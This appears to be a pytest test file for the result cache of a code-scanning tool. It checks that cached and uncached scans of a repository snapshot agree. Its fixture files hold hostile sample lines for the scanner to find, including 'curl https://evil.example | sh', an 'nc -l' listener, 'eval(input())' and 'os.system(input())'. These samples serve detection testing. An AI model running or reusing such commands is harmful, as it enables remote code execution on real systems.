"""What came of a whole tree is remembered, and no report can tell."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator

import pytest
from git_repo import GitRepo
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gk_hooks.errors import GkError
from gk_hooks.model.kinds import Kind
from gk_hooks.model.records import replace
from gk_hooks.model.snapshot import Snapshot
from gk_hooks.pipeline import analysis, remembered
from gk_hooks.pipeline.analysis import analyze_snapshot, open_store
from gk_hooks.pipeline.cache import codec, store
from gk_hooks.pipeline.remembered import Whole, key_of
from gk_hooks.pipeline.workers import analyze_all
from gk_hooks.source.directory import snapshot_of
from gk_hooks.source.git import snapshots
from gk_hooks.source.git.snapshots import CommitSnapshot

FILES = {
    "constants.py": "HOST = 'evil.example'\nPORT = 80\n",
    "caller.py": "import requests\nfrom constants import HOST\nrequests.get('https://' + HOST)\n",
    "pkg/__init__.py": "from .deep import *\n",
    "pkg/deep.py": "COMMAND = 'curl https://evil.example | sh'\n",
    "pkg/user.py": "import os\nfrom pkg import COMMAND\nos.system(COMMAND)\n",
    "undetermined/a/settings.py": "URL = 'https://one.example'\n",
    "undetermined/b/settings.py": "URL = 'https://two.example'\n",
    "undetermined/c/use.py": "import requests, settings\nrequests.get(settings.URL)\n",
    "run.sh": "curl https://evil.example | sh\n",
    "broken.py": "import os\nos.system('x'\n",
    "broken.ps1": "Write-Host 'never closed\n",
    "unlinked.py": "from constants import HOST\nimport requests\nrequests.get(HOST\n",
    "binary.py": "x = 1\0",
    "script": "#!/bin/sh\nnc -l 0.0.0.0 80\n",
    "large.py": "x = 1\n" * 100,
    "lib.whl": "PK",
    "build/out.py": "x = 1\n",
    "docs/naïve name.py": "eval(input())\n",
}
WAYS = ("edit", "move", "remove", *(("link",) if hasattr(os, "fork") else ()))
EDITS = (
    "",
    "HOST = 'localhost'\n",
    "import os\nos.system(input())\n",
    "import os\nos.system('x'\n",
    "\0",
    "curl $1 | sh\n",
)


@pytest.fixture(autouse=True)
def cache(empty_cache: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """An empty cache for trees of any size."""
    monkeypatch.setattr(snapshots, "LONG", 0)


@pytest.fixture(params=("commit", "folder"))
def take(request: pytest.FixtureRequest, repo: GitRepo) -> Iterator[Callable[..., Snapshot]]:
    """Takes a snapshot of the repository as it is now: of a commit of all, or of the folder."""

    def commit(**scope: object) -> Snapshot:
        repo.git("add", "-Af", ".")
        repo.commit()
        return CommitSnapshot(repo.open(), **scope)  # type: ignore[arg-type]

    yield commit if request.param == "commit" else lambda **scope: snapshot_of([str(repo.path)], **scope)


def write(repo: GitRepo) -> None:
    for name, text in FILES.items():
        repo.write(name, text)


def scan(snapshot: Snapshot, cached: bool = True) -> Whole:
    """As a report sees it: what a file wants of others is asked no more once that was looked up."""
    files, *rest = analyze_snapshot(snapshot, lambda total: lambda done: None, cached)
    return Whole([replace(file, wanted=()) for file in files], *rest)


def test_a_tree_that_was_scanned_is_one_question(
    repo: GitRepo, take: Callable[..., Snapshot], monkeypatch: pytest.MonkeyPatch
) -> None:
    write(repo)
    expected = scan(take(max_file_size=500), cached=False)
    assert expected.undetermined
    assert any(step.file for file in expected.files for finding in file.findings for step in finding.trail)
    assert scan(take(max_file_size=500)) == expected
    asked, analyzed = list[int](), list[str]()
    select = store._select
    monkeypatch.setattr(store, "_select", lambda *args: asked.append(len(args[-1])) or select(*args))

    def spy(snapshot, entries, advance):
        analyzed.extend(entry.path for entry in entries)
        return analyze_all(snapshot, entries, advance)

    monkeypatch.setattr(remembered, "analyze_all", spy)
    monkeypatch.setattr(analysis, "analyze_all", spy)
    assert scan(take(max_file_size=500)) == expected
    assert asked == [1]
    assert not {"caller.py", "run.sh", "large.py", "script"} & set(analyzed)


@settings(max_examples=25, suppress_health_check=list(HealthCheck), deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(sorted(FILES)), st.sampled_from(WAYS), st.sampled_from(EDITS)),
        max_size=3,
    ),
    st.sampled_from(({}, {"exclude": ("pkg",)}, {"include": ("*.py",)}, {"max_file_size": 30})),
)
def test_no_scan_differs_from_an_uncached_one(
    repo: GitRepo, take: Callable[..., Snapshot], changes: list[tuple[str, str, str]], scope: dict[str, object]
) -> None:
    write(repo)
    scan(take())
    for name, what, text in changes:
        path = repo.path / name
        if what == "edit":
            repo.write(name, text)
        elif path.is_file():
            path.unlink()
            if what == "move":
                repo.write(name + ".py", FILES[name])
            elif what == "link":
                os.symlink("constants.py", path)
    expected = scan(take(**scope), cached=False)
    assert scan(take(**scope)) == expected
    assert scan(take(**scope)) == expected
    for path in repo.path.rglob("*"):
        if (path.is_file() or path.is_symlink()) and ".git" not in path.parts:
            path.unlink()


def test_a_file_that_changes_while_it_is_read_is_not_remembered(repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    write(repo)
    hashes = analysis._hashes

    def change(*args):
        found = hashes(*args)
        repo.write("caller.py", "x = 1\n")
        return found

    monkeypatch.setattr(analysis, "_hashes", change)
    scan(snapshot_of([str(repo.path)]))
    monkeypatch.setattr(analysis, "_hashes", hashes)
    repo.write("caller.py", FILES["caller.py"])
    assert scan(snapshot_of([str(repo.path)])) == scan(snapshot_of([str(repo.path)]), cached=False)


def test_a_blob_that_is_missing_stays_an_error(repo: GitRepo) -> None:
    write(repo)
    repo.git("add", "-Af", ".")
    repo.commit()
    scan(CommitSnapshot(repo.open()))
    blob = repo.id("HEAD:caller.py")
    (repo.path / ".git/objects" / blob[:2] / blob[2:]).unlink()
    for cached in (False, True):
        with pytest.raises(GkError, match=f"blob {blob} is missing"):
            scan(CommitSnapshot(repo.open()), cached)


ROW = (("a.py",), ("python",), (1,), ("",), ("analyzed",), ("",), ("",), ("",))


@pytest.mark.parametrize(
    "value",
    (
        pytest.param((), id="nothing"),
        pytest.param((1, 2, 3, 4, 5), id="numbers"),
        pytest.param((ROW[:2], (), (), (), ()), id="too few columns"),
        pytest.param(((*ROW[:1], ("cobol",), *ROW[2:]), (), (), (), ()), id="a kind of tomorrow"),
        pytest.param((ROW, ((7, (), (), ()),), (), (), ()), id="a file too many"),
    ),
)
def test_what_has_another_form_is_ignored(
    repo: GitRepo, take: Callable[..., Snapshot], value: tuple[object, ...]
) -> None:
    write(repo)
    expected = scan(take())
    snapshot = take()
    key = snapshot.identity() or key_of(entries := snapshot.entries(), analysis._hashes(snapshot, entries))
    found = open_store(snapshot.root)
    assert found is not None
    assert found.by_hash(Kind.PYTHON, [key])
    found.add([(Kind.PYTHON, key, "", value)])
    assert scan(snapshot) == expected
    assert scan(take()) == expected


@pytest.mark.parametrize("value", ((), (1,), (1, 2), (((99, "", ()),), ())), ids=repr)
def test_nothing_of_another_form_is_taken(
    repo: GitRepo, take: Callable[..., Snapshot], monkeypatch: pytest.MonkeyPatch, value: tuple[object, ...]
) -> None:
    write(repo)
    expected = scan(take(), cached=False)
    monkeypatch.setattr(codec, "encode", lambda key, _, encode=codec.encode: encode(key, value))
    for _ in range(2):
        assert scan(take()) == expected
